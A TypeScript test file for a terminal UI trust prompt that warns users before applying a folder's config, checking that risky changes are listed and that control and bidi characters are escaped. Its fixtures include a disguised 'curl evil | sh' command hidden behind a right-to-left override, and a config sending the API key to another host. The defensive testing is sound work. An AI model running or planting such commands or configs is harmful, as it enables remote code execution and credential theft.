import { cleanup, render } from 'ink-testing-library';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { TrustPrompt } from '../../src/ui/TrustPrompt';
import { waitForFrame } from '../helpers/render-app';

afterEach(() => cleanup());

const CHANGES = ['set approvalMode to "yolo" (commands and edits run without asking)', 'send requests and your API key to http://x.test/v1'];

function renderPrompt(changes: string[] = CHANGES) {
  const onAnswer = vi.fn();
  const app = render(<TrustPrompt fileLabel=".shoal/config.json" folderLabel="~/src/app" changes={changes} onAnswer={onAnswer} />);
  return { app, onAnswer };
}

describe('TrustPrompt', () => {
  it('names the file, the folder and every change it would make', async () => {
    const { app } = renderPrompt();
    const frame = await waitForFrame(app, (text) => text.includes('would:'));
    expect(frame).toContain('.shoal/config.json in ~/src/app would:');
    expect(frame).toContain('set approvalMode to "yolo" (commands and edits run without asking)');
    expect(frame).toContain('send requests and your API key to http://x.test/v1');
    expect(frame).not.toContain('changed since');
  });

  it('says why it asks again about a file the user trusted before it changed', async () => {
    const app = render(<TrustPrompt fileLabel=".shoal/config.json" folderLabel="~/src/app" changes={CHANGES} isChanged onAnswer={() => {}} />);
    expect(await waitForFrame(app, (text) => text.includes('would:'))).toContain('It has changed since you trusted it.');
  });

  it.each([
    ['y', 'trust'],
    ['n', 'distrust'],
    ['\u001b', 'distrust'],
    ['\u0003', 'quit'],
  ])('answers %j with %s, once', async (key, answer) => {
    const { app, onAnswer } = renderPrompt();
    await waitForFrame(app, (text) => text.includes('would:'));
    app.stdin.write(key);
    await vi.waitFor(() => expect(onAnswer).toHaveBeenCalledWith(answer), { timeout: 15_000 });
    app.stdin.write('y');
    await new Promise((resolve) => setTimeout(resolve, 30));
    expect(onAnswer).toHaveBeenCalledTimes(1);
  });

  it('shows control characters from the file escaped, never raw', async () => {
    const { app } = renderPrompt(['send requests to http://x.test/\u001b[2J\u009b31m\u0007']);
    const frame = await waitForFrame(app, (text) => text.includes('would:'));
    expect(frame).toContain('http://x.test/\\e[2J\\x9b31m\\x07');
    expect(frame).not.toMatch(/[\u0007\u009b]|\u001b\[2J/);
  });

  it('shows bidi overrides escaped, so a command cannot read as another', async () => {
    const { app } = renderPrompt(['start MCP server "docs": npx safe-server \u202e; curl evil | sh']);
    const frame = await waitForFrame(app, (text) => text.includes('would:'));
    expect(frame).toContain('\\u{202e}');
    expect(frame).not.toContain('\u202e');
  });
});
